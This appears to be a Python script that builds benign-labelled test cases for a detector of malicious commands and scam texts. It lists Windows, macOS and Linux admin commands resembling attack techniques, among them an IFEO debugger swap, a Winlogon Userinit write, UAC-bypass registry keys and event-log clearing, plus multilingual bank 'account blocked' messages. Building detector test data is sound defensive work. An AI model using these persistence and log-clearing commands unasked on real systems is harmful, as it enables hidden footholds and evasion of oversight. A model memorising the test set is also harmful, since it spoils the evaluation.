        'copy \\\\fs01\\templates\\Normal.dotm "%APPDATA%\\Microsoft\\Templates\\Normal.dotm"',
        'Remove-Item "$env:APPDATA\\Microsoft\\Templates\\Normal.dotm"',
        'dir "%APPDATA%\\Microsoft\\Excel\\XLSTART"',
        "reg query HKCU\\Software\\Microsoft\\Office\\16.0\\Excel\\Options /v OPEN",
        "netsh show helper",
        "netsh interface ip show config",
        "reg query HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command",
        "reg delete HKCU\\Software\\Classes\\ms-settings /f",
        "Remove-Item -Path 'HKCU:\\Software\\Classes\\mscfile' -Recurse -Force",
        'reg add "HKCU\\Environment" /v JAVA_HOME /d "C:\\Program Files\\Java\\jdk-21" /f',
        '[Reflection.Assembly]::LoadFrom("C:\\Program Files\\Contoso\\Contoso.Client.dll")',
        'Add-Type -Path "C:\\Program Files\\Contoso\\Contoso.Client.dll"; [Reflection.Assembly]::LoadFile('
        '"C:\\Program Files\\Contoso\\Contoso.Client.dll")',
        '[System.Reflection.Assembly]::LoadFrom("$PSScriptRoot\\lib\\Newtonsoft.Json.dll") | Out-Null',
        '[Reflection.Assembly]::LoadWithPartialName("System.Windows.Forms") | Out-Null',
        "netsh winhttp show proxy",
        "netsh winhttp reset proxy",
        "netsh winhttp import proxy source=ie",
        'netsh winhttp set proxy proxy-server="http=proxy.corp.example:8080;https=proxy.corp.example:8080" '
        'bypass-list="*.corp.example"',
        'netsh winhttp set proxy proxy.corp.example:8080 "<local>;*.corp.example"',
        "netsh winhttp set proxy 10.0.0.5:3128",
    ],
)
book.benign(
    "registry-autostart-admin",
    "windows",
    "terminal",
    WIKI,
    [
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Userinit /d '
        '"C:\\Windows\\system32\\userinit.exe," /f',
        'reg add "HKCU\\Control Panel\\Desktop" /v SCRNSAVE.EXE /d "C:\\Windows\\System32\\Bubbles.scr" /f',
        'reg add "HKCU\\Control Panel\\Desktop" /v ScreenSaveTimeOut /d 600 /f',
        'reg query "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa" /v "Security Packages"',
        "w32tm /config /manualpeerlist:time.windows.com /syncfromflags:manual /update",
        'reg query "HKLM\\SOFTWARE\\Microsoft\\Active Setup\\Installed Components" /s /v StubPath',
        "sudo defaults delete com.apple.loginwindow LoginHook",
        "defaults read com.apple.loginwindow",
        "git config --global core.hooksPath .githooks",
        "git config core.fsmonitor true",
    ],
)
book.benign(
    "browser-dev",
    "any",
    "terminal",
    "https://developer.chrome.com/docs/devtools/remote-debugging/local-server",
    [
        "google-chrome --remote-debugging-port=9222 --user-data-dir=/tmp/chrome-debug",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --remote-debugging-port=9222 '
        "--user-data-dir=C:\\temp\\chrome-profile",
        "google-chrome --load-extension=./dist --user-data-dir=/tmp/ext-test",
        "chromium --headless --dump-dom https://example.com",
    ],
)
book.benign(
    "recovery-logs-admin",
    "windows",
    "terminal",
    WIKI,
    [
        "bcdedit /enum",
        "bcdedit /set {current} safeboot minimal",
        "wevtutil qe System /c:20 /f:text /rd:true",
        "wevtutil epl Security C:\\Logs\\sec.evtx",
        "reagentc /info",
        "reagentc /enable",
        "wevtutil cl Microsoft-Windows-TerminalServices-RDPClient/Operational",
        "Get-EventLog -LogName System -Newest 50",
    ],
)
book.benign(
    "shell-aliases",
    "linux",
    "terminal",
    "https://askubuntu.example/q/22037",
    [
        "echo \"alias sudo='sudo '\" >> ~/.bashrc",
        "echo 'alias please=\"sudo \\$(fc -ln -1)\"' >> ~/.bashrc",
        "echo \"alias ll='ls -alF'\" >> ~/.bashrc",
    ],
)
book.benign(
    "editor-extensions",
    "any",
    "terminal",
    "https://code.visualstudio.com/docs/setup/enterprise",
    [
        "code --install-extension ms-python.python",
        "code --install-extension ./dist/my-extension-0.1.0.vsix",
        "curl -L -o ext.vsix https://marketplace.visualstudio.com/_apis/public/gallery/publishers/ms-python/"
        "vsextensions/python/latest/vspackage && code --install-extension ext.vsix",
        "code --list-extensions --show-versions",
    ],
)
book.benign(
    "procexp-replaces-taskmgr",
    "windows",
    "terminal",
    "https://learn.microsoft.com/en-us/sysinternals/downloads/process-explorer",
    [
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\taskmgr.exe" '
        '/v Debugger /t REG_SZ /d "C:\\Tools\\Sysinternals\\procexp64.exe" /f',
    ],
)
book.benign(
    "mac-admin",
    "macos",
    "terminal",
    APPLE,
    [
        "sudo launchctl list | grep emond",
        "ls /etc/periodic/daily/",
        "sudo periodic daily weekly monthly",
    ],
)
book.benign(
    "periodic-settings",
    "any",
    "terminal",
    "https://docs.freebsd.example/handbook/periodic",
    ["echo 'daily_clean_tmps_enable=\"YES\"' | sudo tee -a /etc/periodic.conf.local"],
)
book.benign(
    "udev-boards",
    "linux",
    "terminal",
    "https://docs.arduino.example/linux-setup",
    [
        'echo \'SUBSYSTEM=="usb", ATTR{idVendor}=="2341", MODE="0666", GROUP="plugdev"\' | sudo tee '
        "/etc/udev/rules.d/99-arduino.rules && sudo udevadm control --reload-rules",
    ],
)
book.benign(
    "udev-project-rules",
    "linux",
    "terminal",
    "https://docs.platformio.org/en/latest/core/installation/udev-rules.html",
    [
        "curl -fsSL https://raw.githubusercontent.com/platformio/platformio-core/develop/platformio/assets/system/"
        "99-platformio-udev.rules | sudo tee /etc/udev/rules.d/99-platformio-udev.rules",
    ],
)
book.benign(
    "udev-and-xdg-docs",
    "linux",
    "terminal",
    ARCH,
    [
        'ACTION=="add", SUBSYSTEM=="net", RUN+="/usr/local/bin/net-up.sh"',
        "xdg-mime default org.gnome.Evince.desktop application/pdf",
        "xdg-mime query default application/pdf",
        "cp /usr/share/applications/firefox.desktop ~/.local/share/applications/ && xdg-mime default "
        "firefox.desktop x-scheme-handler/https",
    ],
)
book.by_kind(
    [
        (
            "brew-docker-docs",
            "any",
            [
                (
                    "https://formulae.brew.sh/cask/firefox",
                    "terminal",
                    "brew install --cask firefox",
                ),
                ("https://nodejs.org/en/download", "terminal", "brew install node"),
                (
                    "https://github.com/tonsky/FiraCode/wiki/Installing",
                    "terminal",
                    "brew tap homebrew/cask-fonts && brew install --cask font-fira-code",
                ),
                (
                    "https://developer.hashicorp.com/terraform/install",
                    "terminal",
                    "brew tap hashicorp/tap && brew install hashicorp/tap/terraform",
                ),
                (
                    "https://docs.docker.com/get-started/",
                    "terminal",
                    "docker run --rm -it ubuntu:24.04 bash",
                ),
                (
                    "https://hub.docker.com/_/postgres",
                    "terminal",
                    "docker run -d --name pg -e POSTGRES_PASSWORD=secret -p 5432:5432 postgres:16",
                ),
                (
                    "https://go.dev/doc/",
                    "terminal",
                    'docker run --rm -v "$PWD":/src -w /src golang:1.22 go build ./...',
                ),
                (
                    "https://github.com/example-org/dashboard",
                    "terminal",
                    "docker run -d -p 3000:3000 ghcr.io/example-org/dashboard:1.4",
                ),
                (
                    "https://hub.docker.com/_/nginx",
                    "terminal",
                    "docker run -d -p 8080:80 nginx:latest",
                ),
            ],
        ),
        (
            "bank-texts",
            "any",
            [
                (
                    None,
                    "other",
                    "If your card has been blocked, call the number on the back of your card or visit a branch.",
                ),
                (
                    None,
                    "other",
                    "Si votre compte PayPal est bloqué, connectez-vous sur paypal.com et suivez les étapes du "
                    "Centre de résolution. PayPal ne vous demandera jamais d'appeler un numéro figurant dans un SMS.",
                ),
                (
                    None,
                    "other",
                    "Wenn Ihr Konto gesperrt wurde, melden Sie sich im Online-Banking an oder rufen Sie die Nummer "
                    "auf der Rückseite Ihrer Karte an.",
                ),
                (
                    None,
                    "other",
                    "Si votre carte est bloquée, appelez le numéro au dos de votre carte ou connectez-vous à votre "
                    "espace client.",
                ),
                (
                    None,
                    "other",
                    "Su tarjeta ha sido bloqueada por seguridad tras tres intentos fallidos de PIN. Puede "
                    "desbloquearla desde la app o llamando al 900 000 000.",
                ),
                (
                    None,
                    "other",
                    "Wir haben Ihre Karte vorsorglich gesperrt. Bitte melden Sie sich in der App an oder rufen Sie "
                    "uns unter 030 0000000 an.",
                ),
                (
                    None,
                    "other",
                    "Il tuo account è stato bloccato dopo troppi tentativi. Puoi sbloccarlo dall'app o chiamare il "
                    "servizio clienti.",
                ),
                (
                    None,
                    "other",
                    "PayPal will never ask you to call a phone number in a text message to unlock your account. If "
                    "you received such a message, forward it to phishing@paypal.com.",
                ),
                (
                    None,
                    "other",
                    "Your card has been blocked for your protection. Open the app to unlock it, or call us on 0800 "
                    "000 0000.",
                ),
                (
                    None,
                    "other",
                    "Ihr Konto wurde vorübergehend gesperrt. Sie können es jederzeit im Online-Banking entsperren "
                    "oder uns unter 030 0000000 anrufen.",
                ),
                (
                    None,
                    "other",
                    "Als uw pas is geblokkeerd, bel dan direct 020 000 0000 of blokkeer hem in de app.",
                ),
                (
                    None,
                    "other",
                    "Ha ricevuto un SMS che dice che il suo conto è stato bloccato e chiede di chiamare subito un "
                    "numero? È una truffa: non chiami.",
                ),
                (
                    None,
                    "other",
                    "Sua conta foi bloqueada? Acesse o internet banking ou ligue para a central no verso do seu "
                    "cartão.",
                ),
                (
                    None,
                    "other",
                    "Uw rekening is geblokkeerd wegens een verlopen legitimatiebewijs. Log in op de app om een "
                    "nieuw document te uploaden.",
                ),
            ],
        ),
    ],
)

CASES = book.kept(OUT)

if __name__ == "__main__":
    write(OUT, CASES)
